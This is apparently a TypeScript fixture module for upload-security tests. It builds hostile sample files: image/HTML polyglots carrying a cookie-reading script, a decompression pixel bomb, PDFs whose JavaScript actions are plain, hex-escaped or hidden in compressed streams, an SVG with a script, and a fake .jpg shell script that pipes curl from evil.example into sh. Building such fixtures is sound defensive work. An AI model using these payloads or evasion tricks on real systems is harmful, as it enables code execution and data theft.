/**
 * Files for the upload tests, made the way the hostile ones are made in the wild: a photo with
 * EXIF and GPS, images with HTML appended or hidden in a comment, a script named .jpg, PDFs
 * with JavaScript spelled plainly, hex-escaped and inside a compressed object stream, and a
 * picture that declares more pixels than any receipt needs.
 */
import zlib from 'node:zlib';
import sharp from 'sharp';

/** A camera-like JPEG: noisy pixels, EXIF with a maker, a copyright owner, GPS position and orientation. */
export async function photoWithExif(width = 1600, height = 1200): Promise<Buffer> {
  const noise = Buffer.alloc(width * height * 3);
  for (let i = 0; i < noise.length; i++) noise[i] = (i * 7919 + (i >> 5) * 104729) % 251;
  return (
    sharp(noise, { raw: { width, height, channels: 3 } })
      .jpeg({ quality: 90 })
      // Orientation 6: the camera was turned; the pixels are stored sideways.
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { Make: 'TestCam', Model: 'Receipt X1', Copyright: 'owner-secret-name' },
        IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2980/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 17/1 4000/100' },
      })
      .toBuffer()
  );
}

/**
 * A photo as a camera writes it, never shrunk by a browser: about 7 MiB of JPEG (noise, so it does
 * not compress), above the file ceiling and, sealed, above the upload call's body limit.
 */
export async function rawCameraPhoto(): Promise<Buffer> {
  const noise = { type: 'gaussian' as const, mean: 128, sigma: 80 };
  return sharp({ create: { width: 1800, height: 1400, channels: 3, background: '#808080', noise } })
    .jpeg({ quality: 100, chromaSubsampling: '4:4:4' })
    .toBuffer();
}

export async function plainPng(width = 400, height = 300, color = '#3366cc'): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: color } })
    .png()
    .toBuffer();
}

export const htmlPayload = '<html><body><script>alert(document.cookie)</script></body></html>';

/** A valid PNG with an HTML page after its end: browsers that sniff would run it. */
export async function pngHtmlPolyglot(): Promise<Buffer> {
  return Buffer.concat([await plainPng(64, 64, '#ff0000'), Buffer.from(htmlPayload)]);
}

/** A valid JPEG whose comment segment (COM, 0xFFFE) carries an HTML page. */
export async function jpegWithHtmlComment(): Promise<Buffer> {
  const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#00ff00' } })
    .jpeg()
    .toBuffer();
  const text = Buffer.from(htmlPayload);
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe, (text.length + 2) >> 8, (text.length + 2) & 0xff]), text]);
  // Right after the start-of-image marker.
  return Buffer.concat([jpeg.subarray(0, 2), segment, jpeg.subarray(2)]);
}

/** A white picture that declares 64 megapixels yet compresses to a few hundred kilobytes. */
export async function pixelBomb(): Promise<Buffer> {
  return sharp({ create: { width: 8000, height: 8000, channels: 3, background: '#ffffff' } })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

function pdf(objects: string[]): Buffer {
  let body = '%PDF-1.7\n';
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(body.length);
    body += `${i + 1} 0 obj\n${o}\nendobj\n`;
  });
  const xref = body.length;
  body += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${offsets.map((o) => `${String(o).padStart(10, '0')} 00000 n \n`).join('')}`;
  body += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(body, 'latin1');
}

const page = ['<< /Type /Pages /Kids [3 0 R] /Count 1 >>', '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>'];

export function cleanPdf(): Buffer {
  return pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...page]);
}

export function pdfWithJavaScript(): Buffer {
  return pdf(['<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>', ...page, '<< /S /JavaScript /JS (app.alert\\(1\\)) >>']);
}

/** The same action with its names spelled with #xx escapes, which PDF readers decode. */
export function pdfWithEscapedJavaScript(): Buffer {
  return pdf(['<< /Type /Catalog /Pages 2 0 R /Open#41ction 4 0 R >>', ...page, '<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>']);
}

/** The action dictionary inside a Flate-compressed object stream, invisible to a plain text search. */
export function pdfWithHiddenJavaScript(): Buffer {
  const hidden = zlib.deflateSync(Buffer.from('4 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>'));
  const stream = `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${hidden.length} >>\nstream\n${hidden.toString('latin1')}\nendstream`;
  return pdf(['<< /Type /Catalog /Pages 2 0 R >>', ...page, stream]);
}

export const shellScript = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
export const svgImage = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
